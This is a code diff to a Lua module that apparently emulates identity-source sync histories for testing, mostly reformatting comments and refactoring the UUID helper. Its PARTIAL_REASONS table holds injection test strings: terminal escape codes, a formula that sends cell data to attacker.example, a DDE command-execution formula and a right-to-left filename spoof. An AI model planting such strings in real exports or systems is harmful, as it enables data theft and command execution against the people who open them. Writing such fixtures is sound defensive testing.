@@ -1,6 +1,6 @@
 --- The clusters the emulator knows and the records their identity sources left: one story a cluster.
--- Everything is computed from the seed and the start time, record by record, so a history of 300,000 costs nothing until it is
--- read. Pure: no clock, no randomness, no nginx; the supervisor lists the clusters with it and nginx serves them.
+-- Everything is computed from the seed and the start time, record by record, so a history of 300,000 costs nothing
+-- until it is read. Pure: no clock, no randomness, no nginx; the supervisor lists the clusters, nginx serves them.
 -- @module dwsync.emulator.stories
 
 local cjson = require "cjson"
@@ -10,8 +10,8 @@ local M = {}
 
 local SECOND, MINUTE, HOUR = 1000, 60 * 1000, 3600 * 1000
 
-local BIND_REFUSED = "javax.naming.AuthenticationException: [LDAP: error code 49 - 80090308: LdapErr: DSID-0C090439, comment: "
-    .. "AcceptSecurityContext error, data 52e, v4563]"
+local BIND_REFUSED = "javax.naming.AuthenticationException: [LDAP: error code 49 - 80090308: LdapErr: DSID-0C090439, "
+    .. "comment: AcceptSecurityContext error, data 52e, v4563]"
 
 -- What real directories return, and what a careless reader chokes on.
 local PARTIAL_REASONS = {
@@ -20,7 +20,8 @@ local PARTIAL_REASONS = {
     "\27[31mrole \"\27]0;owned\7svc_etl\" already exists\27[0m",
     '=HYPERLINK("http://attacker.example/?x="&A1,"details") is not a valid account name',
     "group mapping a|b|c failed | 3 members skipped",
-    "first problem: duplicate mail attribute\nsecond problem: manager not found\r\n\tthird: Gr\195\188\195\159e \226\128\174gnp.exe",
+    "first problem: duplicate mail attribute\nsecond problem: manager not found\r\n\tthird: Gr\195\188\195\159e "
+        .. "\226\128\174gnp.exe",
     "+cmd|' /C calc'!A0: account name refused",
 }
 
@@ -28,16 +29,12 @@ local function hash(...)
     return digest.new("sha256"):final(table.concat({...}, "/"))
 end
 
-local function hex(bytes)
-    return (bytes:gsub(".", function(byte) return ("%02x"):format(byte:byte()) end))
-end
-
--- A version 4 UUID from sixteen bytes: what the service's own ids look like.
+-- A version 4 UUID from sixteen bytes: what the service's own ids look like. Written out in one format because this is
+-- most of the work of making a record.
 local function uuid(bytes)
-    local text = hex(bytes:sub(1, 16))
-    local variant = ("89ab"):sub(bytes:byte(9) % 4 + 1, bytes:byte(9) % 4 + 1)
-    return ("%s-%s-4%s-%s%s-%s"):format(text:sub(1, 8), text:sub(9, 12), text:sub(14, 16), variant, text:sub(18, 20),
-        text:sub(21, 32))
+    local a, b, c, d, e, f, g, h, i, j, k, l, m, n, o, p = bytes:byte(1, 16)
+    return ("%04x%04x-%04x-4%03x-%04x-%04x%04x%04x"):format(a * 256 + b, c * 256 + d, e * 256 + f, (g * 256 + h) % 4096,
+        32768 + (i * 256 + j) % 16384, k * 256 + l, m * 256 + n, o * 256 + p)
 end
 
 --- An id that looks like a project's: 32 hexadecimal digits.
@@ -45,10 +42,10 @@ end
 -- @tparam string label
 -- @treturn string
 function M.hex_id(seed, label)
-    return hex(hash(seed, label):sub(1, 16))
+    return (hash(seed, label):sub(1, 16):gsub(".", function(byte) return ("%02x"):format(byte:byte()) end))
 end
 
--- One quiet, successful run; stories change what makes them a story. `bytes` are the record's own 32 pseudo-random bytes.
+-- One quiet, successful run; stories change what makes them a story. `bytes` are the record's own 32 pseudo-random.
 local function quiet_run(source, bytes, start)
     return {
         id = uuid(bytes),
@@ -80,8 +77,8 @@ local function source_of(context, kind, label)
     return {id = uuid(hash(context.seed, context.id, "source", label or kind)), type = kind}
 end
 
--- A story is a function from its cluster's context {seed, id, started (ms), records} to the number of records and a function
--- from an index (0 is the newest) to a record. `shape` changes a quiet run.
+-- A story is a function from its cluster's context {seed, id, started (ms), records} to the number of records and a
+-- function from an index (0 is the newest) to a record. `shape` changes a quiet run.
 local function regular(context, options)
     local source = source_of(context, options.type or "ldap")
     local newest = options.newest or 12 * MINUTE
@@ -196,7 +193,8 @@ end
 -- @treturn table record
 function M.arrival(cluster, options, number, start, like)
     local context = {seed = options.seed, id = cluster.id}
-    local source = like and {id = like.identity_source_id, type = like.identity_source_type} or source_of(context, "ldap")
+    local source = source_of(context, "ldap")
+    if like then source = {id = like.identity_source_id, type = like.identity_source_type} end
     local record = quiet_run(source, hash(context.seed, context.id, "arrival", number), start)
     record.end_time = start + 1
     return record
